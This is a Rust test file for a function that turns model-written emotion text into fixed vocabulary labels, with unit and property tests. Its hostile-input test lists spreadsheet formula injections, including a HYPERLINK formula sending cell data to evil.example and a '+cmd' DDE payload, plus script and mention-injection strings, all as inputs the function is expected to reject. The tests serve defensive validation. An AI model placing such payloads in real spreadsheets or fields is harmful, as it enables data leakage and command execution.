use super::*;
use proptest::prelude::*;

fn label(text: &str) -> Option<String> {
    Emotion::from_model(text).map(|e| e.as_str().to_owned())
}

/// The rule every stored emotion keeps: lower-case ASCII words, short.
fn fits_rule(label: &str) -> bool {
    !label.is_empty()
        && label.len() <= MAX_LABEL_CHARS
        && label.chars().all(|c| c.is_ascii_lowercase() || c == ' ')
}

#[test]
fn what_models_write_maps_onto_the_vocabulary() {
    let cases = [
        ("Sadness", "sadness"),
        ("sad", "sadness"),
        ("  Lonely ", "loneliness"),
        ("feeling really alone", "loneliness"),
        ("Deep sadness, with some guilt", "sadness"),
        ("overwhelmed / exhausted", "overwhelm"),
        ("burnt out", "exhaustion"),
        ("self-doubt", "insecurity"),
        ("Anxiety (about the exam)", "anxiety"),
        ("SHAME", "shame"),
        ("grief: her dog died", "grief"),
    ];
    for (model, expected) in cases {
        assert_eq!(label(model).as_deref(), Some(expected), "{model:?}");
    }
}

#[test]
fn one_plain_unknown_word_is_kept_anything_else_is_not() {
    assert_eq!(label("wistfulness").as_deref(), Some("wistfulness"));
    assert_eq!(
        label("a sense of wistfulness").as_deref(),
        Some("wistfulness")
    );
    for hostile in [
        r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "<@123456789012345678>",
        "@everyone",
        "[click](https://evil.example)",
        "<script>alert(1)</script>",
        "call me at 555 123 4567",
        "été",
        "",
        "   ",
        "wist\u{202E}fulness",
        "my sister maribel",
    ] {
        assert_eq!(label(hostile), None, "{hostile:?}");
    }
}

#[test]
fn an_emotion_word_inside_hostile_text_is_still_found() {
    // The label is the vocabulary's word, never the text around it.
    assert_eq!(label("=sad+cmd").as_deref(), Some("sadness"));
    assert_eq!(
        label("angry https://evil.example").as_deref(),
        Some("anger")
    );
}

#[test]
fn every_label_reads_back_as_itself() {
    for (canonical_label, synonyms) in VOCABULARY {
        assert_eq!(label(canonical_label).as_deref(), Some(*canonical_label));
        for synonym in *synonyms {
            assert_eq!(
                label(synonym).as_deref(),
                Some(*canonical_label),
                "{synonym}"
            );
        }
    }
}

proptest! {
    #[test]
    fn prop_any_text_gives_no_label_or_one_that_fits(text in any::<String>()) {
        if let Some(emotion) = Emotion::from_model(&text) {
            prop_assert!(fits_rule(emotion.as_str()), "{:?} -> {:?}", text, emotion);
            prop_assert_eq!(Emotion::from_model(emotion.as_str()), Some(emotion.clone()));
        }
    }

    #[test]
    fn prop_hostile_pieces_give_a_label_that_fits(
        text in proptest::collection::vec(
            prop_oneof![
                Just("=".to_owned()), Just("+".to_owned()), Just("-".to_owned()),
                Just("@".to_owned()), Just("\t".to_owned()), Just("sad".to_owned()),
                Just("http://x.example/".to_owned()), Just("<@1>".to_owned()),
                Just(" ".to_owned()), Just("wistful".to_owned()), "[a-zA-Z]{1,12}",
            ],
            0..12,
        ).prop_map(|parts| parts.concat())
    ) {
        if let Some(emotion) = Emotion::from_model(&text) {
            prop_assert!(fits_rule(emotion.as_str()), "{:?} -> {:?}", text, emotion);
        }
    }
}
